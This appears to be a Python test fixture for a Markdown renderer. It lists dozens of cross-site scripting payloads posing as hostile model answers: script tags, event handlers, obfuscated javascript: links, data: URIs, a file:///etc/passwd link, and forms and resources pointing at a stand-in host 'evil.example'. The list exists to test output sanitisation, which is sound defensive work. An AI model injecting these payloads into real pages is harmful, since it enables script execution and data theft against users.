@@ -1,0 +1,77 @@
+"""Hostile model answers, shared by the Markdown unit tests and the browser tests.
+
+Each one tries to run script (which would set `window.__pwned`), to load something from another host,
+or to send the page elsewhere. `HOSTILE_ANSWER` is all of them in one answer.
+"""
+
+from __future__ import annotations
+
+PWN = "window.__pwned=1"
+
+# Each tries to run script, load something from another host, or send the page elsewhere.
+HOSTILE = [
+    f"<script>{PWN}</script>",
+    f'<script type="py">import js; js.{PWN}</script>',
+    f"<img src=x onerror={PWN}>",
+    f"<IMG SRC=x OnError={PWN}>",
+    f"<svg onload={PWN}><circle r=1 /></svg>",
+    f'<svg><a href="javascript:{PWN}"><text>x</text></a></svg>',
+    f"<iframe src=\"javascript:{PWN}\"></iframe>",
+    '<iframe src="https://evil.example/frame"></iframe>',
+    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+    '<form action="https://evil.example/steal"><input name=k><button>Send</button></form>',
+    '<base href="https://evil.example/">',
+    "<style>@import url(https://evil.example/x.css);</style>",
+    "<style>body{background:url(https://evil.example/b.png)}</style>",
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
+    f"<details open ontoggle={PWN}>x</details>",
+    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
+    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
+    f'<a href="javascript:{PWN}">html link</a>',
+    f'<div onclick="{PWN}">\n\nblock html\n\n</div>',
+    f"[x](javascript:{PWN})",
+    f"[x](JaVaScRiPt:{PWN})",
+    f"[x](<java\tscript:{PWN}>)",
+    f"[x](java&#x09;script:{PWN})",
+    f"[x](java&Tab;script:{PWN})",
+    f"[x](java&#10;script:{PWN})",
+    f"[x](&#106;avascript:{PWN})",
+    f"[x](&#x6A;avascript:{PWN})",
+    f"[x](&#0000106;avascript:{PWN})",
+    f"[x](%6Aavascript:{PWN})",
+    f"[x](   javascript:{PWN})",
+    f"[x](<  javascript:{PWN}>)",
+    f"[x](javascript&colon;{PWN})",
+    f"[x](javascript&#58;{PWN})",
+    f"[x](\x01javascript:{PWN})",
+    f"[x](javascript://%0a{PWN})",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html,<script>window.__pwned=1</script>)",
+    "[x](DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example/x)",
+    "[x](/relative/path)",
+    "[x](#fragment)",
+    "[x](https:/evil.example)",
+    f"[x][1]\n\n[1]: javascript:{PWN}",
+    f'[x]\n\n[x]: <javascript:{PWN}> "title"',
+    f"[x][1]\n\n[1]: &#106;avascript:{PWN}",
+    f"<javascript:{PWN}>",
+    f"<JAVASCRIPT:{PWN}>",
+    "<data:text/html,window.__pwned=1>",
+    "![img](https://evil.example/x.png)",
+    f"![img](javascript:{PWN})",
+    "![x][img]\n\n[img]: https://evil.example/i.png",
+    "[![inner](https://evil.example/x.png)](https://ok.example/)",
+    f"[x](https://ok.example \"\\\" onmouseover={PWN}\")",
+    f'[x](https://ok.example/"onmouseover="{PWN})',
+    f"```\" onmouseover={PWN}\nprint(1)\n```",
+    f"```<script>{PWN}</script>\ncode\n```",
+    f"| a |\n|---|\n| <img src=x onerror={PWN}> |",
+    f"`<img src=x onerror={PWN}>`",
+    f"    <script>{PWN}</script>",
+    f"> <script>{PWN}</script>\n> [x](javascript:{PWN})",
+]
+
+HOSTILE_ANSWER = "\n\n".join(HOSTILE)
